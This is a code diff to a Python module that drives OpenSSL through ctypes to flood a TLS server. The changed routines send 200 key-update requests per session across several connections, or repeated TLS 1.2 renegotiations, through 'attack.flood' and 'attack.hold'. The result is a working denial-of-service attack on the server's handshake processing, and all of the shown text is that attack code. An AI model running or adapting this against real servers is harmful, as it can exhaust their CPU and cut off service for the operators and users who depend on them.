@@ -54,6 +54,7 @@ class OpenSsl:
         return cls.library
 
     def __init__(self, client, newest=None):
+        self.buffer = ctypes.create_string_buffer(16384)
         self.client, library = client, self.load()
         self.context = ctypes.c_void_p(library.SSL_CTX_new(ctypes.c_void_p(library.TLS_client_method())))
         if newest:
@@ -66,9 +67,9 @@ class OpenSsl:
 
     def taken(self):
         """The records that are ready."""
-        buffer, out = ctypes.create_string_buffer(65536), b''
-        while (count := self.crypto.BIO_read(self.outgoing, buffer, 65536)) > 0:
-            out += buffer.raw[:count]
+        out = b''
+        while (count := self.crypto.BIO_read(self.outgoing, self.buffer, len(self.buffer))) > 0:
+            out += self.buffer[:count]
         return out
 
     def handshake(self, seconds=10):
@@ -85,12 +86,10 @@ class OpenSsl:
 
     def write(self, data):
         self.library.SSL_write(self.session, data, len(data))
-        return self.taken()
 
     def update_key(self, ask):
         self.library.SSL_key_update(self.session, 1 if ask else 0)
         self.library.SSL_do_handshake(self.session)
-        return self.taken()
 
     def renegotiate(self):
         self.library.SSL_renegotiate(self.session)
@@ -101,18 +100,24 @@ class OpenSsl:
 def updates(ask, between=b''):
     def run(attack):
         sessions = {}
-        for client in [attack.connect() for _ in range(2)]:
-            # Directly to the port of TLS, which connect() speaks to with Python's own.
+        for client in attack.connect_many(2):
             sessions[client] = OpenSsl(client).handshake()
-        attack.flood(list(sessions), lambda client: b''.join(
-            sessions[client].update_key(ask) + (sessions[client].write(between) if between else b'') for _ in range(200)))
+
+        def make(client):
+            session = sessions[client]
+            for _ in range(200):
+                session.update_key(ask)
+                if between:
+                    session.write(between)
+            return session.taken()
+        attack.flood(list(sessions), make)
         attack.hold()
     return run
 
 
 def renegotiations(attack):
     session = OpenSsl(attack.connect(), OpenSsl.TLS_1_2).handshake()
-    attack.flood(session.client, lambda _: session.renegotiate() or session.write(b'G'))
+    attack.flood(session.client, lambda _: session.renegotiate() + session.taken())
     attack.hold()
 
 
